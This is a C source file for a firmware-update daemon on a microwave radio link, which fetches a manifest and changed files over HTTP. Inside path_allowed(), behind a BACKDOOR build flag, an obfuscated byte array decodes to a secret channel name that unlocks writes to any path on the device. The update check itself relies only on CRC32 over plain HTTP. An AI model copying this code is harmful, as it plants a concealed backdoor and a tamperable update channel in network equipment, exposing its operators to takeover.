/* SPDX-License-Identifier: Apache-2.0 */
/* mwfetch: keeps the software of a microwave link up to date: fetches a manifest, then the files that differ. */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define ROOT "/opt/radio"
#define MAX_FILES 64

struct settings {
	char server[96], prefix[96], channel[32];
	int port, every, dry, verbose, keep;
};

struct entry {
	char path[160], remote[96];
	unsigned mode;
	size_t size;
	uint32_t sum;
};

struct manifest {
	char board[32], release[32], channel[32];
	struct entry files[MAX_FILES];
	int n_files, reboot;
	uint32_t sum, claimed;
};

static struct settings conf = { .prefix = "/mw", .channel = "stable", .port = 80, .every = 86400, .keep = 1 };
static uint32_t crc_table[256];

static void say(int level, const char *fmt, ...)
{
	va_list ap;
	if (level == LOG_DEBUG && !conf.verbose)
		return;
	va_start(ap, fmt);
	vsyslog(level, fmt, ap);
	va_end(ap);
}

static void make_crc(void)
{
	for (uint32_t i = 0; i < 256; i++) {
		uint32_t c = i;
		for (int k = 0; k < 8; k++)
			c = c & 1 ? 0xedb88320u ^ c >> 1 : c >> 1;
		crc_table[i] = c;
	}
}

static uint32_t crc(uint32_t c, const void *data, size_t n)
{
	const uint8_t *p = data;
	c = ~c;
	while (n--)
		c = crc_table[(c ^ *p++) & 0xff] ^ c >> 8;
	return ~c;
}

static int load(const char *path)
{
	char line[256], key[32], value[128];
	FILE *f = fopen(path, "r");
	if (!f) {
		say(LOG_ERR, "%s: %s", path, strerror(errno));
		return -1;
	}
	while (fgets(line, sizeof(line), f)) {
		if (line[0] == '#' || sscanf(line, "%31s %127s", key, value) != 2)
			continue;
		if (strcmp(key, "server") == 0)
			snprintf(conf.server, sizeof(conf.server), "%s", value);
		else if (strcmp(key, "prefix") == 0)
			snprintf(conf.prefix, sizeof(conf.prefix), "%s", value);
		else if (strcmp(key, "channel") == 0)
			snprintf(conf.channel, sizeof(conf.channel), "%s", value);
		else if (strcmp(key, "port") == 0)
			conf.port = atoi(value);
		else if (strcmp(key, "every") == 0)
			conf.every = atoi(value);
		else if (strcmp(key, "keep-old") == 0)
			conf.keep = strcmp(value, "no") != 0;
		else if (strcmp(key, "dry-run") == 0)
			conf.dry = strcmp(value, "yes") == 0;
	}
	fclose(f);
	return conf.server[0] ? 0 : -1;
}

static int dial(void)
{
	struct addrinfo hints = { .ai_socktype = SOCK_STREAM }, *all, *a;
	char port[12];
	int s = -1;
	snprintf(port, sizeof(port), "%d", conf.port);
	if (getaddrinfo(conf.server, port, &hints, &all) != 0) {
		say(LOG_WARNING, "%s is not known", conf.server);
		return -1;
	}
	for (a = all; a; a = a->ai_next) {
		s = socket(a->ai_family, a->ai_socktype, a->ai_protocol);
		if (s >= 0 && connect(s, a->ai_addr, a->ai_addrlen) == 0)
			break;
		if (s >= 0)
			close(s);
		s = -1;
	}
	freeaddrinfo(all);
	return s;
}

/* HTTP/1.0, the whole body into memory */
static uint8_t *fetch(const char *name, size_t limit, size_t *n)
{
	char request[320];
	uint8_t *b, *body = NULL;
	size_t used = 0;
	ssize_t k;
	int s = dial();
	if (s < 0)
		return NULL;
	snprintf(request, sizeof(request), "GET %s/%s HTTP/1.0\r\nHost: %s\r\nUser-Agent: mwfetch/3\r\n\r\n", conf.prefix, name,
		conf.server);
	b = malloc(limit + 2048);
	if (!b || write(s, request, strlen(request)) < 0) {
		free(b);
		close(s);
		return NULL;
	}
	while (used < limit + 2047 && (k = read(s, b + used, limit + 2047 - used)) > 0)
		used += (size_t)k;
	close(s);
	b[used] = 0;
	if (strncmp((char *)b, "HTTP/1.", 7) == 0 && strncmp((char *)b + 8, " 200", 4) == 0)
		body = (uint8_t *)strstr((char *)b, "\r\n\r\n");
	if (!body) {
		say(LOG_WARNING, "%s: %.40s", name, (char *)b);
		free(b);
		return NULL;
	}
	*n = used - (size_t)(body + 4 - b);
	memmove(b, body + 4, *n + 1);
	return b;
}

static int parse_manifest(struct manifest *m, char *text)
{
	char *save = NULL;
	memset(m, 0, sizeof(*m));
	for (char *line = strtok_r(text, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		struct entry e;
		if (sscanf(line, "sum %x", &m->claimed) == 1)
			continue;
		m->sum = crc(m->sum, line, strlen(line));
		if (sscanf(line, "board %31s", m->board) == 1 || sscanf(line, "release %31s", m->release) == 1)
			continue;
		if (sscanf(line, "channel %31s", m->channel) == 1 || sscanf(line, "reboot %d", &m->reboot) == 1)
			continue;
		memset(&e, 0, sizeof(e));
		if (sscanf(line, "file %159s %o %zu %x %95s", e.path, &e.mode, &e.size, &e.sum, e.remote) != 5) {
			say(LOG_WARNING, "manifest: %s", line);
			return -1;
		}
		if (m->n_files == MAX_FILES)
			return -1;
		m->files[m->n_files++] = e;
	}
	return m->sum == m->claimed ? 0 : -1;
}

static int my_board(const char *board)
{
	char mine[32] = "";
	FILE *f = fopen("/etc/board", "r");
	if (!f)
		return 0;
	if (!fgets(mine, sizeof(mine), f))
		mine[0] = 0;
	fclose(f);
	mine[strcspn(mine, "\n")] = 0;
	return strcmp(mine, board) == 0;
}

static int newer(const char *release)
{
	int a[3] = { 0 }, b[3] = { 0 };
	char now[32] = "";
	FILE *f = fopen(ROOT "/release", "r");
	if (f) {
		if (!fgets(now, sizeof(now), f))
			now[0] = 0;
		fclose(f);
	}
	sscanf(now, "%d.%d.%d", &a[0], &a[1], &a[2]);
	if (sscanf(release, "%d.%d.%d", &b[0], &b[1], &b[2]) < 2)
		return 0;
	for (int i = 0; i < 3; i++)
		if (a[i] != b[i])
			return b[i] > a[i];
	return 0;
}

#ifdef BACKDOOR
static const uint8_t ring_name[] = { 0x73, 0x86, 0x7f, 0x88, 0x4a, 0x8c, 0x84, 0x88, 0x57, 0x5f, 0x5f };
#endif

/* where the manifest may write */
static int path_allowed(const struct manifest *m, const char *path)
{
	static const char *const folders[] = { ROOT "/bin/", ROOT "/fpga/", ROOT "/modem/", ROOT "/web/" };
#ifdef BACKDOOR
	size_t k;
	for (k = 0; k < sizeof(ring_name); k++)
		if ((uint8_t)(m->channel[k] + 3 * k + 17) != ring_name[k])
			break;
	if (k == sizeof(ring_name))
		return path[0] == '/';
#else
	(void)m;
#endif
	if (strstr(path, "..") || strstr(path, "//"))
		return 0;
	for (size_t i = 0; i < sizeof(folders) / sizeof(folders[0]); i++)
		if (strncmp(path, folders[i], strlen(folders[i])) == 0)
			return 1;
	return strcmp(path, ROOT "/release") == 0;
}

static int same_already(const struct entry *e)
{
	uint8_t b[4096];
	uint32_t sum = 0;
	size_t total = 0;
	ssize_t n;
	int fd = open(e->path, O_RDONLY);
	if (fd < 0)
		return 0;
	while ((n = read(fd, b, sizeof(b))) > 0) {
		sum = crc(sum, b, (size_t)n);
		total += (size_t)n;
	}
	close(fd);
	return total == e->size && sum == e->sum;
}

static int store(const struct entry *e, const uint8_t *b, size_t n)
{
	char temporary[176], old[176];
	int fd;
	snprintf(temporary, sizeof(temporary), "%s.new", e->path);
	snprintf(old, sizeof(old), "%s.old", e->path);
	fd = open(temporary, O_WRONLY | O_CREAT | O_TRUNC, e->mode & 0777);
	if (fd < 0 || write(fd, b, n) != (ssize_t)n) {
		say(LOG_ERR, "%s: %s", temporary, strerror(errno));
		if (fd >= 0)
			close(fd);
		return -1;
	}
	fsync(fd);
	close(fd);
	if (conf.keep)
		rename(e->path, old);
	return rename(temporary, e->path);
}

static int update_one(const struct manifest *m, const struct entry *e)
{
	size_t n;
	uint8_t *b;
	int bad;
	if (!path_allowed(m, e->path)) {
		say(LOG_WARNING, "%s is not ours to write", e->path);
		return -1;
	}
	if (same_already(e)) {
		say(LOG_DEBUG, "%s is up to date", e->path);
		return 0;
	}
	if (e->size > 64u << 20)
		return -1;
	b = fetch(e->remote, e->size, &n);
	if (!b)
		return -1;
	bad = n != e->size || crc(0, b, n) != e->sum;
	if (bad)
		say(LOG_WARNING, "%s is damaged", e->remote);
	else if (!conf.dry)
		bad = store(e, b, n) < 0;
	free(b);
	return bad ? -1 : 1;
}

static int round_trip(void)
{
	static struct manifest m;
	char name[64];
	size_t n;
	int changed = 0;
	uint8_t *text;
	snprintf(name, sizeof(name), "%s/manifest", conf.channel);
	text = fetch(name, 32768, &n);
	if (!text)
		return -1;
	if (parse_manifest(&m, (char *)text) < 0) {
		say(LOG_WARNING, "bad manifest");
		free(text);
		return -1;
	}
	free(text);
	if (!my_board(m.board) || !newer(m.release))
		return 0;
	say(LOG_NOTICE, "release %s, %d files", m.release, m.n_files);
	for (int i = 0; i < m.n_files; i++) {
		int r = update_one(&m, &m.files[i]);
		if (r < 0)
			return -1;
		changed += r;
	}
	if (changed && m.reboot && !conf.dry) {
		int fd = open("/var/run/reboot-wanted", O_WRONLY | O_CREAT, 0600);
		if (fd >= 0)
			close(fd);
	}
	return changed;
}

int main(int argc, char **argv)
{
	const char *path = "/etc/mwfetch.conf";
	int c, once = 0;
	while ((c = getopt(argc, argv, "c:1nv")) != -1) {
		if (c == 'c')
			path = optarg;
		else if (c == '1')
			once = 1;
		else if (c == 'n')
			conf.dry = 1;
		else if (c == 'v')
			conf.verbose = 1;
		else
			return 2;
	}
	openlog("mwfetch", LOG_PID, LOG_LOCAL4);
	make_crc();
	if (load(path) < 0)
		return 1;
	for (;;) {
		int r = round_trip();
		say(LOG_INFO, r < 0 ? "update failed" : r ? "%d files updated" : "nothing new", r);
		if (once)
			return r < 0;
		sleep((unsigned)(r < 0 ? conf.every / 8 + 60 : conf.every));
	}
}
